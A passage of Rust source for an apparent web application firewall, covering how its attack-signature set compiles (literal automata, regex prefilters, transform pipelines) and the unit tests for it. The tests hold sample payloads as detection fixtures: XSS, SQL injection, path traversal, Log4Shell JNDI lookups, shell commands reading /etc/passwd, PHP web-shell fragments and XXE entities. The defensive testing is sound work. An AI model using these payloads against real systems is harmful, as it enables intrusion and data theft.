    // Distinct pipelines, shortest first, so a pipeline's prefix pipelines come before it.
    let mut pipelines: Vec<Vec<Transform>> = Vec::new();
    for spec in &specs {
        if !pipelines.contains(&spec.pipeline) {
            pipelines.push(spec.pipeline.clone());
        }
    }
    if pipelines.len() > 64 {
        let spec = &specs[0];
        return Err(spec_error(
            spec,
            "more than 64 distinct transformation pipelines",
        ));
    }
    // Every prefix of a pipeline becomes a pipeline of its own (with no patterns) when they
    // all fit: pipelines then form a trie, so a value's shared steps (`urlDecodeUni` starts
    // most of them) run once per value instead of once per pipeline.
    let mut with_prefixes = pipelines.clone();
    for p in &pipelines {
        for len in 1..p.len() {
            if !with_prefixes.iter().any(|q| q[..] == p[..len]) {
                with_prefixes.push(p[..len].to_vec());
            }
        }
    }
    if with_prefixes.len() <= 64 {
        pipelines = with_prefixes;
    }
    pipelines.sort_by_key(|p| p.len());
    let pipeline_parent: Vec<Option<(usize, usize)>> = (0..pipelines.len())
        .map(|p| {
            (0..p)
                .filter(|&q| pipelines[p].starts_with(&pipelines[q]))
                .max_by_key(|&q| pipelines[q].len())
                .map(|q| (q, pipelines[q].len()))
        })
        .collect();
    let mut pipeline_closure: Vec<u64> = (0..pipelines.len()).map(|p| 1u64 << p).collect();
    for p in (0..pipelines.len()).rev() {
        let mut q = p;
        while let Some((parent, _)) = pipeline_parent[q] {
            pipeline_closure[parent] |= 1u64 << p;
            q = parent;
        }
    }

    let mut stats = SignatureStats::default();
    let mut by_target: HashMap<Target, (Vec<PatternSpec>, Vec<PatternSpec>)> = HashMap::new();
    for spec in specs {
        let bucket = by_target.entry(spec.target).or_default();
        if spec.literal.is_some() {
            stats.literals += 1;
            bucket.0.push(spec);
        } else {
            stats.regexes += 1;
            bucket.1.push(spec);
        }
    }
    let mut targets_sorted: Vec<Target> = by_target.keys().copied().collect();
    targets_sorted.sort();
    let mut groups = Vec::new();
    let mut args_skip_numbers = true;
    let mut targets = 0u8;
    // Response bodies shorter than this are not scanned (one group per target).
    let mut response_min_len = 0;
    for target in targets_sorted {
        let Some((lits, res)) = by_target.remove(&target) else {
            continue;
        };
        targets |= target.bit();
        if target == Target::Args && args_skip_numbers {
            let literal_may = lits.iter().any(|spec| {
                let text = spec.literal.as_deref().unwrap_or("");
                text.bytes().all(|b| NUMBER_BYTES.contains(&b))
            });
            args_skip_numbers = !literal_may
                && !res
                    .iter()
                    .any(|spec| regex_may_match_numbers(&spec.regex, &spec.pipeline));
        }
        let pipeline_of = |spec: &PatternSpec| {
            pipelines
                .iter()
                .position(|p| *p == spec.pipeline)
                .unwrap_or(0)
        };
        let mut used: Vec<usize> = lits.iter().chain(res.iter()).map(pipeline_of).collect();
        used.sort_unstable();
        used.dedup();
        let mut ac_needles: Vec<Vec<u8>> = Vec::new();
        let mut ac_entries: Vec<AcEntry> = Vec::new();
        let mut literal_info = Vec::with_capacity(lits.len());
        for (i, spec) in lits.iter().enumerate() {
            let text = spec.literal.as_deref().unwrap_or("");
            let one = AhoCorasick::builder()
                .ascii_case_insensitive(true)
                .build([text])
                .map_err(|e| spec_error(spec, &e.to_string()))?;
            literal_info.push(info(spec, pipeline_of(spec), None, None, Some(one)));
            ac_needles.push(text.as_bytes().to_vec());
            ac_entries.push(AcEntry::Literal(i));
        }
        let mut regex_info = Vec::with_capacity(res.len());
        let mut required: HashMap<Vec<u8>, usize> = HashMap::new();
        let mut always_patterns: Vec<&str> = Vec::new();
        let mut always_ids = Vec::new();
        // each regex's required literals, for the gate
        let mut required_sets: Vec<Option<Vec<Vec<u8>>>> = Vec::with_capacity(res.len());
        for (i, spec) in res.iter().enumerate() {
            let build = |multi_line: bool| {
                regex::bytes::RegexBuilder::new(&spec.regex)
                    .case_insensitive(true)
                    .unicode(false)
                    .multi_line(multi_line)
                    .size_limit(4 << 20)
                    .build()
                    .map_err(|e| spec_error(spec, &first_line(&e.to_string())))
            };
            regex_info.push(info(
                spec,
                pipeline_of(spec),
                Some(build(false)?),
                Some(build(true)?),
                None,
            ));
            // after `compressWhitespace`, `\s+` can only be one space
            let compressed = crate::prefilter::compresses_whitespace(&spec.pipeline);
            match crate::prefilter::required_literals_with(&spec.regex, compressed) {
                Some(set) => {
                    stats.prefiltered += 1;
                    required_sets.push(Some(set.clone()));
                    for lit in set {
                        let slot = *required.entry(lit.clone()).or_insert_with(|| {
                            ac_needles.push(lit);
                            ac_entries.push(AcEntry::Required(Vec::new()));
                            ac_entries.len() - 1
                        });
                        if let AcEntry::Required(ids) = &mut ac_entries[slot] {
                            ids.push(i);
                        }
                    }
                }
                None => {
                    required_sets.push(None);
                    always_patterns.push(spec.regex.as_str());
                    always_ids.push(i);
                }
            }
        }
        // the gate: what each literal pattern and each prefiltered regex offers (every
        // match holds it, whatever literal the prefilter picked)
        let mut needs: Vec<GateNeed> = lits
            .iter()
            .map(|spec| GateNeed::of_literal(spec.literal.as_deref().unwrap_or("").as_bytes()))
            .collect();
        for (spec, words) in res.iter().zip(required_sets) {
            if let Some(words) = words {
                needs.push(GateNeed {
                    strong: required_rare_byte(&spec.regex, STRONG_RARE_BYTES),
                    words: Some(words),
                    rare: required_rare_byte(&spec.regex, RARE_BYTES),
                });
            }
        }
        let plain_scan = if always_patterns.is_empty() {
            None
        } else {
            let with_ids: Vec<(&str, usize)> = always_patterns
                .iter()
                .copied()
                .zip(always_ids.iter().copied())
                .collect();
            crate::plain::plain_scan(&with_ids)
        };
        // the plain scan's words: needles of the literal scan, and a gate need (a value
        // without any holds no match of the regexes needing one)
        if let Some(words) = plain_scan
            .as_ref()
            .and_then(|p| p.prefixed.as_ref())
            .map(|p| &p.words)
        {
            for word in words {
                ac_needles.push(word.clone());
                ac_entries.push(AcEntry::PlainWord);
            }
            needs.push(GateNeed {
                strong: None,
                words: Some(words.clone()),
                rare: None,
            });
        }
        let ac_gate = gate_of(&needs);
        let ac = if ac_needles.is_empty() {
            None
        } else {
            Some(
                // Scanned over every request: the first pass walks a flat DFA table, the
                // fastest per byte (see `crate::interleaved`).
                crate::interleaved::LiteralAutomaton::build(&ac_needles).map_err(|e| {
                    LoadError {
                        file: PathBuf::from(target.dir_name()),
                        line: 0,
                        message: e.to_string(),
                    }
                })?,
            )
        };
        let always = if always_patterns.is_empty() {
            None
        } else {
            Some(
                crate::plain::build_set(&always_patterns)
                    .map_err(|e| spec_error(&res[0], &format!("group compile failed: {e}")))?,
            )
        };

        // no pattern matches a body shorter than its shortest match, unless a pipeline
        // lengthens values
        let lengthens = used.iter().any(|&p| pipelines[p].iter().any(may_lengthen));
        if target == Target::Response && !lengthens {
            let literal_lens = lits
                .iter()
                .map(|spec| spec.literal.as_deref().unwrap_or("").len());
            let regex_lens = res
                .iter()
                .map(|spec| crate::prefilter::minimum_len(&spec.regex).unwrap_or(usize::MAX));
            response_min_len = literal_lens.chain(regex_lens).min().unwrap_or(0);
        }
        // (the shared DFA of regexes without a literal has no gate: values must reach it)
        let gate_before_variants = always.is_none()
            && ac_gate.as_ref().is_some_and(|gate| {
                used.iter()
                    .all(|&p| pipelines[p].iter().all(|t| keeps_gate_closed(t, gate)))
            });
        groups.push(Group {
            target,
            pipeline_mask: used.iter().fold(0u64, |m, &p| m | (1u64 << p)),
            pipelines: used,
            ac,
            ac_gate,
            gate_before_variants,
            ac_entries,
            literal_info,
            always,
            always_ids,
            plain_scan,
            regex_info,
        });
    }
    stats.groups = groups.len();
    let pipeline_plain_level = pipelines
        .iter()
        .map(|p| {
            p.iter()
                .map(|t| match t {
                    t if t.identity_on_plain() => 1,
                    Transform::Lowercase | Transform::Uppercase => 1,
                    Transform::CmdLine => 2,
                    _ => 3,
                })
                .max()
                .unwrap_or(1)
        })
        .collect::<Vec<u8>>();
    let identity_masks: [u64; 3] = std::array::from_fn(|level| {
        (0..pipelines.len())
            .filter(|&p| level as u8 >= pipeline_plain_level[p])
            .fold(0u64, |m, p| m | (1u64 << p))
    });
    // (a target none of whose groups has the property is left out)
    let targets_of = |gated: bool| {
        groups
            .iter()
            .filter(|g| g.gate_before_variants == gated)
            .fold(0u8, |m, g| m | g.target.bit())
    };
    let gated_targets = targets_of(true) & !targets_of(false);
    Ok(SignatureSet {
        gated_targets,
        identity_masks,
        pipeline_plain_level,
        pipelines,
        pipeline_parent,
        pipeline_closure,
        groups,
        targets,
        stats,
        clean_headers: ValueCache::default(),
        response_min_len,
        args_skip_numbers,
    })
}

fn info(
    spec: &PatternSpec,
    pipeline: usize,
    confirm: Option<regex::bytes::Regex>,
    scan: Option<regex::bytes::Regex>,
    literal: Option<AhoCorasick>,
) -> PatternInfo {
    PatternInfo {
        id: spec.id.clone(),
        category: spec.category.clone(),
        message: spec.message.clone(),
        severity: spec.severity,
        paranoia: spec.paranoia,
        confirm,
        scan,
        literal,
        pipeline,
    }
}

fn first_line(s: &str) -> String {
    s.lines()
        .rfind(|l| !l.trim().is_empty())
        .unwrap_or(s)
        .trim()
        .to_string()
}

fn spec_error(spec: &PatternSpec, message: &str) -> LoadError {
    LoadError {
        file: spec.origin.clone(),
        line: spec.line,
        message: format!("invalid pattern: {message}"),
    }
}

/// The signature set as a pipeline detector.
pub struct SignatureDetector {
    set: SignatureSet,
}

impl SignatureDetector {
    pub fn new(set: SignatureSet) -> SignatureDetector {
        SignatureDetector { set }
    }

    pub fn set(&self) -> &SignatureSet {
        &self.set
    }
}

impl Detector for SignatureDetector {
    fn name(&self) -> &str {
        "signatures"
    }

    fn inspect_request(&self, request: &RequestModel, paranoia: u8, out: &mut Vec<Finding>) {
        self.set.match_request(request, paranoia, out);
    }

    fn inspect_response(
        &self,
        _request: &RequestModel,
        response: &ResponseModel,
        paranoia: u8,
        out: &mut Vec<Finding>,
    ) {
        self.set.match_response(response, paranoia, out);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use palisade_http::Headers;

    fn set(target: Target, kind: FileKind, text: &str) -> SignatureSet {
        SignatureSet::from_sources(vec![SignatureSource {
            label: "test".into(),
            origin: PathBuf::from("test"),
            target,
            kind,
            text: text.into(),
        }])
        .expect("compiles")
    }

    /// A seeded xorshift generator of numbers below its argument, so failures reproduce.
    fn below(mut state: u64) -> impl FnMut(usize) -> usize {
        move |n| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            (state % n as u64) as usize
        }
    }

    fn json_request(body: &str) -> RequestModel {
        let mut h = Headers::default();
        h.push("Content-Type", b"application/json".to_vec());
        let mut m = RequestModel::from_head("POST", "/p", "HTTP/1.1", h);
        m.attach_body(body.as_bytes().to_vec(), false);
        m
    }

    fn targets(set: &SignatureSet, m: &RequestModel) -> Vec<String> {
        let mut out = Vec::new();
        set.match_request(m, 1, &mut out);
        out.into_iter().map(|f| f.target).collect()
    }

    #[test]
    fn repeated_values_are_reported_at_every_location_in_order() {
        // identical values are scanned once but belong to each of their locations, for
        // literals, prefiltered regexes and regexes without a literal alike
        let body = r#"{"a":"x <script> y","b":"plain","c":"x <script> y","d":"x <script> y"}"#;
        let want = vec!["ARGS:a", "ARGS:c", "ARGS:d"];
        let lit = set(Target::Args, FileKind::Literal, "<script>\n");
        assert_eq!(targets(&lit, &json_request(body)), want);
        let pre = set(Target::Args, FileKind::Regex, "<script[\\s>]\n");
        assert_eq!(targets(&pre, &json_request(body)), want);
        let always = set(Target::Args, FileKind::Regex, "<[a-z]+>\n");
        assert_eq!(targets(&always, &json_request(body)), want);
    }

    #[test]
    fn an_array_item_repeats_its_previous_items_value_only_when_the_bytes_are_equal() {
        // `items.N.note` values of one length: equal ones are repeats of the first, the one
        // that differs (an attack of the same length) is scanned and reported where it is,
        // and so is a later item repeating it.
        let calm = "please deliver to the side door and ring the bell twice";
        let attack = "please deliver <script>alert(1)</script> the bell twice";
        assert_eq!(calm.len(), attack.len());
        let body = format!(
            r#"{{"items":[{{"note":"{calm}"}},{{"note":"{calm}"}},{{"note":"{attack}"}},{{"note":"{attack}"}},{{"note":"{calm}"}}]}}"#
        );
        let lit = set(Target::Args, FileKind::Literal, "<script>\n");
        assert_eq!(
            targets(&lit, &json_request(&body)),
            vec!["ARGS:items.2.note", "ARGS:items.3.note"]
        );
    }

    #[test]
    fn long_repeated_values_are_confirmed_on_the_first_ones_variants_in_order() {
        // Values long enough to be looked up that repeat an earlier value are no locations
        // of their own: each is confirmed on its first's pipeline results (here decoded
        // from percent and entity escapes) and reported where it is, in request order.
        let a = "see %3Cscript%3E in the attached file for all the details";
        let b = "see &lt;script&gt; in the attached file for all the details";
        let calm = "please deliver to the side door and ring the bell twice";
        assert!([a, b, calm].iter().all(|v| v.len() >= MIN_DEDUP_LEN));
        let body = format!(
            r#"{{"items":[{{"n":"{a}"}},{{"n":"{calm}"}},{{"n":"{b}"}},{{"n":"{a}"}},{{"n":"{calm}"}},{{"n":"{b}"}}],"x":"{a}"}}"#
        );
        let want = vec![
            "ARGS:items.0.n",
            "ARGS:items.2.n",
            "ARGS:items.3.n",
            "ARGS:items.5.n",
            "ARGS:x",
        ];
        let lit = set(Target::Args, FileKind::Literal, "<script>\n");
        assert_eq!(targets(&lit, &json_request(&body)), want);
        let pre = set(Target::Args, FileKind::Regex, "<script[\\s>]\n");
        assert_eq!(targets(&pre, &json_request(&body)), want);
        let always = set(Target::Args, FileKind::Regex, "<[a-z]+>\n");
        assert_eq!(targets(&always, &json_request(&body)), want);
        // twelve copies: the first eight are reported (the per-pattern cap)
        let copies = vec![format!("\"{a}\""); 12].join(",");
        let body = format!(r#"{{"v":[{copies}]}}"#);
        let want: Vec<String> = (0..8).map(|i| format!("ARGS:v.{i}")).collect();
        assert_eq!(targets(&lit, &json_request(&body)), want);
        assert_eq!(targets(&always, &json_request(&body)), want);
    }

    /// `union select` as a literal, a prefiltered regex and a regex without a literal.
    const UNION_SELECT_PATTERNS: [(FileKind, &str); 3] = [
        (FileKind::Literal, "union select\n"),
        (FileKind::Regex, "union\\s+select\n"),
        (FileKind::Regex, "[a-z]{5} [a-z]{6}\n"),
    ];

    #[test]
    fn names_repeated_across_array_elements_are_reported_at_each() {
        // `items.N.union select x` is scanned once for all N, yet found at every element
        // (literal, prefiltered regex, regex without a literal); a name that differs from
        // element 0's is scanned on its own.
        let body = r#"{"items":[{"union select x":1,"q":2},{"union select x":3,"q":4},
            {"union select x":5,"q":6}],"more":[{"k":1},{"union select y":2}]}"#;
        let want = vec![
            "ARGS_NAMES:items.0.union select x",
            "ARGS_NAMES:items.1.union select x",
            "ARGS_NAMES:items.2.union select x",
            "ARGS_NAMES:more.1.union select y",
        ];
        let m = json_request(body);
        let repeats = m
            .body
            .as_ref()
            .map(|b| b.args.iter().filter(|a| a.name_repeats.is_some()).count());
        assert_eq!(repeats, Some(4), "the flattener marks the repeats");
        for (kind, pattern) in UNION_SELECT_PATTERNS {
            let found = targets(&set(Target::Args, kind, pattern), &m);
            assert_eq!(found, want, "{pattern}");
        }
    }

    #[test]
    fn repeated_names_keep_request_order_the_cap_and_their_own_confirmation() {
        // names of elements 1.. are repeats of element 0's: their findings interleave with
        // the values' in request order, the cap counts them, and each is confirmed on its
        // own bytes (the pattern below matches elements 0 to 2 only)
        let items: Vec<String> = (0..6)
            .map(|i| format!(r#"{{"union select a":{i},"v":"{i} union select 2"}}"#))
            .collect();
        let m = json_request(&format!(r#"{{"items":[{}]}}"#, items.join(",")));
        let interleaved: Vec<String> = (0..4)
            .flat_map(|i| {
                [
                    format!("ARGS_NAMES:items.{i}.union select a"),
                    format!("ARGS:items.{i}.v"),
                ]
            })
            .collect();
        assert_eq!(interleaved.len(), MAX_LOCATIONS_PER_PATTERN);
        for (kind, pattern) in UNION_SELECT_PATTERNS {
            let found = targets(&set(Target::Args, kind, pattern), &m);
            assert_eq!(found, interleaved, "{pattern}");
        }
        let own: Vec<String> = (0..3)
            .map(|i| format!("ARGS_NAMES:items.{i}.union select a"))
            .collect();
        let digits = set(Target::Args, FileKind::Regex, "s\\.[0-2]\\.union\n");
        assert_eq!(targets(&digits, &m), own);
    }

    #[test]
    fn braced_event_handlers_are_jsx_only_as_references_or_arrows() {
        let set = SignatureSet::builtin().expect("built-in set");
        let findings = |value: &str| {
            let mut m = RequestModel::from_head("GET", "/", "HTTP/1.1", Default::default());
            m.args_get.push(palisade_http::Arg {
                name: "comment".into(),
                value: value.into(),
                name_repeats: None,
            });
            let mut out = Vec::new();
            set.match_request(&m, 1, &mut out);
            out
        };
        for jsx in [
            "<Row key={i.id} onClick={() => open(i)} />",
            "<input value=\"\" onChange={e => setQ(e.target.value)} />",
            "<button type=\"submit\" onClick={async () => { await save(); }}>Go</button>",
            "<Item onSelect={({ id }) => pick(id)} /> <X onClick={this.handleClick} />",
        ] {
            assert!(findings(jsx).is_empty(), "{jsx}: {:?}", findings(jsx));
        }
        for handler in [
            "{alert(1)}",
            "{;location=name}",
            "{a:import('//x.example')}",
            "{alert?.(document.domain)}",
            "{void alert(1)}",
            "{(()=>alert(1))()}",
            "{!alert(1)}",
            "{top['alert'](1)}",
        ] {
            let payload = format!("<img src=x onerror={handler}>");
            assert!(!findings(&payload).is_empty(), "{payload} passed");
        }
    }

    #[test]
    fn repeated_names_find_what_names_as_locations_of_their_own_find() {
        // Differential: the built-in set's findings on generated JSON bodies, with the
        // flattener's `name_repeats` as they are and with every name a location of its own
        // (all cleared), at every paranoia level. The keys include ones a pipeline changes
        // (`%27`, entities, double spaces), and a value may repeat the first element's whole
        // name (the duplicate-segment path); headers may carry the same payloads.
        let set = SignatureSet::builtin().expect("built-in set");
        let keys = [
            "sku",
            "q",
            "union select a",
            "x' or '1'='1",
            "a%27%20or%201=1",
            "<script>alert(1)</script>",
            "two  spaces",
            "name,with,commas",
            "&lt;img src=x onerror=alert(1)&gt;",
            "../../etc/passwd",
            "${jndi:ldap://x/a}",
            "cat /etc/passwd",
            "union select aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
        ];
        let values = [
            "\"plain\"",
            "1",
            "\"1 union select 2\"",
            "\"<b>bold</b>\"",
            "\"; cat /etc/passwd\"",
            "true",
        ];
        let mut next = below(0x9e37_79b9_7f4a_7c15);
        let (mut compared, mut repeats) = (0, 0);
        for _ in 0..300 {
            let width = 1 + next(3);
            let shape: Vec<&str> = (0..width).map(|_| keys[next(keys.len())]).collect();
            let mut elements = Vec::new();
            for _ in 0..1 + next(12) {
                let mut fields: Vec<String> = shape
                    .iter()
                    .map(|k| format!("\"{k}\":{}", values[next(values.len())]))
                    .collect();
                if next(6) == 0 {
                    // an element of another shape
                    fields.push(format!("\"{}\":1", keys[next(keys.len())]));
                }
                elements.push(format!("{{{}}}", fields.join(",")));
            }
            let mut body = String::from("{");
            if next(3) == 0 {
                body.push_str(&format!("\"z\":\"items.0.{}\",", shape[0]));
            }
            body.push_str(&format!("\"items\":[{}]", elements.join(",")));
            if next(2) == 0 {
                body.push_str(&format!(",\"nested\":[[{}]]", elements.join(",")));
            }
            body.push('}');
            let mut m = json_request(&body);
            m.headers
                .push("X-Note", keys[next(keys.len())].as_bytes().to_vec());
            repeats += m.body.as_ref().map_or(0, |b| {
                b.args.iter().filter(|a| a.name_repeats.is_some()).count()
            });
            let mut every_name = m.clone();
            if let Some(b) = every_name.body.as_mut() {
                b.args.iter_mut().for_each(|a| a.name_repeats = None);
            }
            for paranoia in 1..=4 {
                let find = |m: &RequestModel| {
                    let mut out = Vec::new();
                    set.match_request(m, paranoia, &mut out);
                    out.into_iter()
                        .map(|f| (f.id, f.target, f.excerpt))
                        .collect::<Vec<_>>()
                };
                let (repeated, separate) = (find(&m), find(&every_name));
                assert_eq!(repeated, separate, "paranoia {paranoia}: {body}");
                compared += separate.len();
            }
        }
        assert!(compared > 10_000, "too few findings compared: {compared}");
        assert!(repeats > 1_000, "too few repeated names: {repeats}");
    }

    #[test]
    fn a_numbers_plain_level_is_the_one_its_bytes_give() {
        // every string of up to five number bytes (and spaces), then longer random ones
        let alphabet = b"0123456789.eE+- ";
        let mut checked = 0;
        let mut check = |v: &[u8]| {
            if is_number(v) {
                assert_eq!(
                    number_plain_level(v),
                    plain_level(v),
                    "{:?}",
                    String::from_utf8_lossy(v)
                );
                checked += 1;
            }
        };
        let mut v = Vec::new();
        for len in 1..=5u32 {
            for mut code in 0..alphabet.len().pow(len) {
                v.clear();
                for _ in 0..len {
                    v.push(alphabet[code % alphabet.len()]);
                    code /= alphabet.len();
                }
                check(&v);
            }
        }
        let mut next = below(0x9e37_79b9_7f4a_7c15);
        for _ in 0..200_000 {
            v.clear();
            for _ in 0..6 + next(27) {
                // mostly digits, so that some are numbers
                let i = next(64);
                v.push(if i < 48 {
                    b'0' + (i % 10) as u8
                } else {
                    alphabet[i - 48]
                });
            }
            check(&v);
        }
        assert!(checked > 10_000, "{checked}");
    }

    #[test]
    fn numbers_are_left_out_only_when_no_args_pattern_can_match_them() {
        // what the lazy-DFA walk decides, on regexes whose answer is known
        for (regex, may) in [
            (r"\d+", true),
            (r"^$", false),
            (r"\b169\.254\.169\.254\b", false),
            (r"\d+\.\d+\.", false),
            (r"^-?\d+$", true),
            (r"-\d\.", true),
            (r"^\d{3}$", true),
            (r"[a-z]+", false),
            (r"\b\d+\.?e\s*\(\s*[\w(]", false),
            (r"^\s*-?\d+\s*\)*\s*(?:or|and)\s+\d", false),
            (r"\d+\s+union", false),
        ] {
            assert_eq!(regex_may_match_numbers(regex, &[]), may, "{regex}");
        }
        // the built-in set leaves numbers out; a set with a pattern that matches them does
        // not, and finds them
        let builtin = SignatureSet::builtin().expect("built-in set");
        assert!(builtin.args_skip_numbers);
        // dotted quads are no numbers: the metadata address is still found
        let ssrf = targets(
            &builtin,
            &json_request(r#"{"n":1,"url":"169.254.169.254"}"#),
        );
        assert_eq!(ssrf, vec!["ARGS:url"]);
        let body = r#"{"qty":4242,"price":"-3.50","page":"666"}"#;
        let numbers = set(Target::Args, FileKind::Regex, "^-?\\d+\\.\\d+$\n^666$\n");
        assert!(!numbers.args_skip_numbers);
        assert_eq!(
            targets(&numbers, &json_request(body)),
            vec!["ARGS:price", "ARGS:page"]
        );
        let literal = set(Target::Args, FileKind::Literal, "4242\n");
        assert!(!literal.args_skip_numbers);
        assert_eq!(targets(&literal, &json_request(body)), vec!["ARGS:qty"]);
        let words = set(Target::Args, FileKind::Regex, "union\\s+select\n");
        assert!(words.args_skip_numbers);
    }

    #[test]
    fn rare_byte_gate() {
        let gate = |list: &[&str]| {
            let needs: Vec<GateNeed> = list
                .iter()
                .map(|n| GateNeed::of_literal(n.as_bytes()))
                .collect();
            gate_of(&needs).map(|g| {
                let words = ["filename=", "filename", "xmlns:", "union select", "x/y"]
                    .into_iter()
                    .filter(|w| g.words.iter().any(|group| occurs_in(group, w.as_bytes())))
                    .collect::<Vec<_>>();
                (String::from_utf8(g.bytes).unwrap_or_default(), words)
            })
        };
        // each needle's strongest byte, once; a word when it has only form and JSON
        // syntax bytes and is long enough; a weak byte when it is too short
        assert_eq!(
            gate(&["eval(", "<?php", "exec(", "filename=", "x/y"]),
            Some(("(</".to_string(), vec!["filename="]))
        );
        // a short needle of letters only can occur anywhere: no gate
        assert!(gate(&["eval(", "sel"]).is_none());
        // nor can too many words be searched for cheaply
        let many: Vec<String> = (0..=MAX_GATE_WORDS).map(|i| format!("word{i}")).collect();
        let many: Vec<&str> = many.iter().map(String::as_str).collect();
        assert!(gate(&many).is_none());
        assert!(gate(&many[..MAX_GATE_WORDS]).is_some());
        // too many distinct bytes to be worth searching for
        assert!(gate(&["<", ">", "(", ")", "$", "!", "|"]).is_none());
        // the word shared by a regex's required literals, found in any case
        let words = |list: &[&str]| {
            list.iter()
                .map(|w| w.as_bytes().to_vec())
                .collect::<Vec<_>>()
        };
        assert_eq!(
            common_word(&words(&["filename =", "FileName*=", "x filename="])),
            Some(b"filename".to_vec())
        );
        assert_eq!(common_word(&words(&["abcd", "abce"])), None);
        // a gate word is searched for by its rarest letter, and compared around it
        let onload = GateWord::new(b"onload".to_vec());
        assert_eq!(onload.anchor_at, 2);
        for (hay, want) in [
            (&b"ONLOAD"[..], true),
            (b"x=1 onLoad=", true),
            (b"nload onloa", false),
            (b"on load", false),
        ] {
            let found = occurs_in(std::slice::from_ref(&onload), hay);
            assert_eq!(found, want, "{}", String::from_utf8_lossy(hay));
        }
        // a word holding another is left to it; words sharing their rarest letter share
        // one search
        let needs = [
            GateNeed::of_literal(b"xmlns:xi="),
            GateNeed::of_literal(b"xmlns:"),
            GateNeed::of_literal(b"xinclude"),
        ];
        let shared = gate_of(&needs).expect("a word gate");
        assert_eq!(shared.words.len(), 1);
        assert_eq!(shared.words[0].len(), 2);
        assert!(shared.open(b"<x XInclude") && !shared.open(b"xmlns xi"));
        // a word gate is found in any case
        let needs = [GateNeed::of_literal(b"xmlns:xi=")];
        let word_gate = gate_of(&needs).expect("a word gate");
        assert!(word_gate.bytes.is_empty());
        assert!(word_gate.open(b"a XMLNS:XI=b") && !word_gate.open(b"xmlns xi= <("));
        for (hay, bytes, want) in [
            (&b"abc"[..], &b"("[..], false),
            (b"ab(c", b"<(", true),
            (b"abc", b"<(=/>", false),
            (b"abc>", b"<(=/>", true),
            (b"", b"<", false),
        ] {
            assert_eq!(any_byte_in(hay, bytes), want, "{hay:?} {bytes:?}");
        }
    }

    #[test]
    fn gated_body_scan_finds_what_it_should() {
        // body patterns whose needles all hold a rare byte: skipped on a body without one,
        // found wherever one occurs (also case-insensitively)
        let body_set = set(
            Target::Body,
            FileKind::Regex,
            "\\beval\\s*\\(\\s*\\$_\n<!entity\\s+\\w+\\s+system\n",
        );
        assert!(targets(&body_set, &json_request(r#"{"a":"eval $_ here"}"#)).is_empty());
        for body in [
            r#"{"a":"EVAL($_GET[1])"}"#,
            r#"{"x":"<!ENTITY xxe SYSTEM \"file:///etc/passwd\">"}"#,
        ] {
            assert_eq!(
                targets(&body_set, &json_request(body)),
                vec!["REQUEST_BODY"],
                "{body}"
            );
        }
    }

    fn with_headers(headers: &[(&str, &str)]) -> RequestModel {
        let mut h = Headers::default();
        for (n, v) in headers {
            h.push(*n, v.as_bytes().to_vec());
        }
        RequestModel::from_head("GET", "/", "HTTP/1.1", h)
    }

    fn upload(part_type: &str, content: &[u8]) -> RequestModel {
        let mut h = Headers::default();
        h.push("Content-Type", b"multipart/form-data; boundary=b0".to_vec());
        let mut body =
            b"--b0\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.jpg\"\r\n".to_vec();
        body.extend_from_slice(format!("Content-Type: {part_type}\r\n\r\n").as_bytes());
        body.extend_from_slice(content);
        body.extend_from_slice(b"\r\n--b0--\r\n");
        let mut m = RequestModel::from_head("POST", "/upload", "HTTP/1.1", h);
        m.attach_body(body, false);
        m
    }

    #[test]
    fn asking_the_gate_before_the_variants_finds_what_scanning_them_finds() {
        // The built-in set, and the same set scanning every variant of every value (as it
        // did before `gate_before_variants`), on uploads, forms and JSON documents made of
        // gate material, NULs and whitespace that removeNulls and compressWhitespace turn
        // into it: `file\0name` becomes `filename`, `<?php\t\tsystem` one space.
        let gated = SignatureSet::builtin().expect("built-in signatures");
        assert!(
            gated.gated_targets & Target::Body.bit() != 0,
            "the body group qualifies"
        );
        let mut every_variant = SignatureSet::builtin().expect("built-in signatures");
        every_variant.gated_targets = 0;
        let pieces: &[&[u8]] = &[
            b"<?php ",
            b"<?",
            b"system(",
            b"system\t\t(",
            b"$_GET[1]",
            b"$_POST[",
            b"eval(",
            b"file\0name=",
            b"filename=\"",
            b"FileName = ",
            b"../",
            b"..\\",
            b".htaccess\"",
            b"<!ENTITY x SYSTEM ",
            b"<!entity\0 % p ",
            b"xmlns:xi=\"http://www.w3.org/2001/xinclude\"",
            b"xml\0ns:",
            b"<svg onload=",
            b"<svg/on\0load=",
            b"(metadata ",
            b".qx{",
            b"<%= ",
            b"runtime.getruntime().exec(request.getparameter(",
            b"\t",
            b"\n",
            b"\xa0",
            b"  ",
            b"\0",
            b"hello ",
            b"world",
            b"a",
            b"=",
            b";",
            b"\"",
        ];
        let mut next = below(0x2545_f491_4f6c_dd1d);
        let (mut compared, mut with_findings) = (0, 0);
        for round in 0..3000 {
            let mut text = Vec::new();
            for _ in 0..1 + next(8) {
                text.extend_from_slice(pieces[next(pieces.len())]);
            }
            let request = match round % 3 {
                0 => upload(["text/plain", "image/gif"][next(2)], &text),
                1 => {
                    let mut h = Headers::default();
                    h.push(
                        "Content-Type",
                        b"application/x-www-form-urlencoded".to_vec(),
                    );
                    let mut m = RequestModel::from_head("POST", "/f", "HTTP/1.1", h);
                    let mut body = b"a=1&b=".to_vec();
                    body.extend(text.iter().filter(|&&b| b != b'&'));
                    m.attach_body(body, false);
                    m
                }
                _ => json_request(&format!(
                    "{{\"a\":{:?},\"b\":1}}",
                    String::from_utf8_lossy(&text)
                )),
            };
            let mut want = Vec::new();
            every_variant.match_request(&request, 4, &mut want);
            let mut got = Vec::new();
            gated.match_request(&request, 4, &mut got);
            let show = |f: &[Finding]| {
                f.iter()
                    .map(|f| format!("{} {}", f.id, f.target))
                    .collect::<Vec<_>>()
            };
            assert_eq!(
                show(&got),
                show(&want),
                "{:?}",
                String::from_utf8_lossy(&text)
            );
            compared += 1;
            with_findings += usize::from(want.iter().any(|f| f.id.contains("body/")));
        }
        // (the comparison is worth something only if body patterns matched often)
        assert!(
            with_findings > compared / 10,
            "{with_findings} of {compared}"
        );
    }

    #[test]
    fn a_quoted_attribute_value_holding_a_bracket_does_not_end_the_tag() {
        let set = SignatureSet::builtin().expect("built-in signatures");
        let ids = |value: &str| {
            let mut out = Vec::new();
            let body = format!("{{\"c\":{value:?}}}");
            set.match_request(&json_request(&body), 1, &mut out);
            out.into_iter()
                .map(|f| f.id)
                .filter(|id| id.contains("/xss"))
                .collect::<Vec<_>>()
        };
        for attack in [
